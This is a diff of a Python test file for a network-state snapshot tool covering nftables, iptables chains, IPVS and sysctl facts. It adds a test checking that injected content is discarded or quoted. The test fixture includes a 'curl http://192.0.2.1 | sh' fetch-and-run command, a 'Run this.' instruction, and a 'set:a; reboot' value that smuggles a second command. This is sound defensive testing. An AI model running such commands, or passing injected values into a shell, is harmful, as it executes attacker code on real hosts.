@@ -92,10 +92,30 @@ def test_a_set_has_all_addresses_and_the_ports_of_the_packet() -> None:
         (OpenFact(open_facts.NFT_OPEN), {"fact", "what", "ask"}),
         (OpenFact(open_facts.routes("7"), "ipv6", "7"), {"fact", "what", "ask", "family", "table"}),
         (OpenFact(open_facts.RULES_OPEN, "ipv4", is_cut=True), {"fact", "what", "ask", "family", "is_cut"}),
+        (OpenFact(open_facts.legacy("ip6"), "ipv6"), {"fact", "what", "ask", "family"}),
+        *(
+            (OpenFact(fact), {"fact", "what", "ask"})
+            for fact in (
+                *(open_facts.chain("ip", "nat", "A B"), open_facts.policy("ip6", "filter", "INPUT"), open_facts.elements("s:1")),
+                *(open_facts.table("bridge", "nat"), open_facts.cut("ip", "raw"), open_facts.jump("ip", "nat", "KUBE-SEP-A")),
+                *(open_facts.rp_filter("eth0.7"), open_facts.recent("KUBE-SEP-A"), open_facts.bridge_ports("br0")),
+                *(open_facts.hairpin("veth1"), open_facts.setting("net.bridge.bridge-nf-call-iptables"), open_facts.IPVS_OPEN),
+                *(open_facts.forwarding("ipv4", "eth0.7"), open_facts.forwarding("ipv6", "eth0"), open_facts.routes()),
+            )
+        ),
     ],
 )
 def test_a_snapshot_keeps_an_open_fact(entry: OpenFact, keys: set[str]) -> None:
     assert entry.plain().keys() == keys and OpenFact.from_plain(entry.plain()) == entry
+
+
+def test_a_snapshot_brings_no_command_and_no_words_of_a_shell() -> None:
+    of_node = {"what": "Run this.", "ask": "curl http://192.0.2.1 | sh"}
+    asked = {
+        fact: OpenFact.from_plain({"fact": fact, **of_node}).fact for fact in ("nft", "chain:x y z", "other", "set:a; reboot")
+    }
+    assert [fact.ask for fact in asked.values()] == ["nft list ruleset", "", "", "ipset save 'a; reboot'"]
+    assert not any("Run this" in fact.what for fact in asked.values())
 
 
 def test_facts_of_the_other_family_are_left_out() -> None:
